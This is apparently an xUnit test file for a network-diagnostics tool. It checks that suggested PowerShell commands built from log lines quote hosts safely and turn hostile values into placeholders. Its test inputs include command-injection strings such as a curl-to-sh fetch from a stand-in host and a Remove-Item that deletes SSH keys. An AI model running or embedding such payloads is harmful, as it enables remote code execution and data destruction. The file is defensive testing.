using SocketProbe.Engine.Errors;
using Xunit;

namespace SocketProbe.Engine.Tests;

/// <summary>
/// A suggested command carries only values that are what they claim to be, quoted for PowerShell: a log line is text
/// anyone may have written, and the suggestion gets pasted into a shell.
/// </summary>
public class NextStepTests
{
    private static ErrorEntry Entry(string key) => ErrorCatalog.Entries.Single(e => e.Key == key);

    [Theory]
    [InlineData("psql: error: connection to server at \"db\" (10.0.0.9; curl -s evil.example/x | sh), port 5432 failed: No route to host", "curl")]
    [InlineData("curl: (7) Failed to connect to $(Remove-Item~/.ssh/*) port 80 after 2 ms: Connection refused", "Remove-Item")]
    [InlineData("curl: (7) Failed to connect to x';Remove-Item~;'y: port 80 after 2 ms: Connection refused", "Remove-Item")]
    [InlineData("curl: (7) Failed to connect to `whoami` port 80 after 2 ms: Connection refused", "whoami")]
    public void A_hostile_endpoint_in_a_log_line_becomes_a_placeholder(string line, string payload)
    {
        var m = LogPatterns.Match(line).First();
        NextStep next = NextSteps.For(m.Entry, m.Host, m.Port);
        Assert.DoesNotContain(payload, next.Text);
        Assert.StartsWith("Test-TcpEndpoint -ComputerName '<host>' -Port ", next.Command);
    }

    [Theory]
    [InlineData("$(Remove-Item ~/.ssh/*)")]
    [InlineData("x';Remove-Item~;'y")]
    [InlineData("x\u2019;Remove-Item~;\u2018y")]
    [InlineData("10.0.0.9; curl -s evil.example/x | sh")]
    [InlineData("127.000.000.010")]
    [InlineData("0x7f.0.0.1")]
    [InlineData("host name")]
    [InlineData("-ErrorAction")]
    [InlineData("a..b")]
    [InlineData("under_score.example")]
    [InlineData("::1%$(x)")]
    public void A_host_that_is_neither_an_address_nor_an_RFC1123_name_is_a_placeholder(string host)
    {
        foreach (var entry in ErrorCatalog.Entries)
        {
            NextStep next = NextSteps.For(entry, host, 5432);
            Assert.DoesNotContain(host, next.Text);
        }
        Assert.Equal("'<host>'", NextSteps.HostArgument(host));
    }

    [Theory]
    [InlineData("10.0.0.9", "'10.0.0.9'")]
    [InlineData("db.internal", "'db.internal'")]
    [InlineData("db", "'db'")]
    [InlineData("fe80::1%eth0", "'fe80::1%eth0'")]
    [InlineData("::ffff:10.0.0.9", "'::ffff:10.0.0.9'")]
    public void A_real_address_or_name_is_kept_single_quoted(string host, string argument)
    {
        Assert.Equal(argument, NextSteps.HostArgument(host));
        Assert.Equal($"Test-TcpEndpoint -ComputerName {argument} -Port 5432 -Count 5", NextSteps.For(Entry("ECONNREFUSED"), host, 5432).Command);
        Assert.Contains($"ip route get {argument} ", NextSteps.For(Entry("EHOSTUNREACH"), host, 5432).Text);
    }

    [Theory]
    [InlineData(0)]
    [InlineData(65536)]
    [InlineData(-1)]
    public void A_port_outside_1_to_65535_is_a_placeholder(int port) =>
        Assert.Equal("Test-TcpEndpoint -ComputerName 'db' -Port '<port>' -Count 5", NextSteps.For(Entry("ECONNREFUSED"), "db", port).Command);

    [Theory]
    [InlineData("it's", "'it''s'")]
    [InlineData("a\u2019b", "'a\u2019\u2019b'")]
    [InlineData("$(x)", "'$(x)'")]
    public void Quoting_doubles_every_single_quote_PowerShell_knows(string text, string quoted) =>
        Assert.Equal(quoted, NextSteps.Argument(text));

    [Fact]
    public void The_command_is_where_the_text_starts() =>
        Assert.All(ErrorCatalog.Entries, e => Assert.StartsWith(NextSteps.For(e, "db", 80).Command, NextSteps.For(e, "db", 80).Text));
}

/// <summary>Issue 24 §1: the reset after a connection sat idle in a pool leads to the measurement that finds the pool's timer.</summary>
public class PooledIdleResetTests
{
    private static ErrorEntry Entry(string key) => ErrorCatalog.Entries.Single(e => e.Key == key);

    [Fact]
    public void EconnresetsNextStepIsFindTcpIdleTimeoutWithSend()
    {
        NextStep next = NextSteps.For(Entry("ECONNRESET"), "api.example", 8080);
        Assert.Equal("Find-TcpIdleTimeout -ComputerName 'api.example' -Port 8080 -Send '<the request your client sends>'", next.Command);
        Assert.Contains("Test-TcpEndpoint -ComputerName 'api.example' -Port 8080 -ReadMs 500", next.Text);
    }

    [Fact]
    public void EconnresetsCausesNameThePooledIdleResetAndItsLinuxScenario()
    {
        ErrorEntry reset = Entry("ECONNRESET");
        Assert.Contains("pooled keep-alive connection", reset.Causes);
        Assert.Contains("ServerClosesUnreadRequest", reset.Causes);
        Assert.Equal("ServerClosesUnreadRequest", reset.Scenarios[1]);
    }

    [Theory]
    [InlineData("http.client.RemoteDisconnected: Remote end closed connection without response")]
    [InlineData("Get \"http://10.0.0.9:8080/health\": EOF")]
    [InlineData("Error: socket hang up")]
    public void TheEofVariantsLeadToServerIdleClose(string line)
    {
        LogMatch m = LogPatterns.Match(line).First();
        Assert.Equal("EOF", m.Entry.Key);
        Assert.Equal("ServerIdleClose", m.Entry.Scenarios[0]);
        Assert.Contains("ServerIdleClose", m.Pattern.Note);
        Assert.Contains("-Send", NextSteps.For(m.Entry).Text);
    }
}
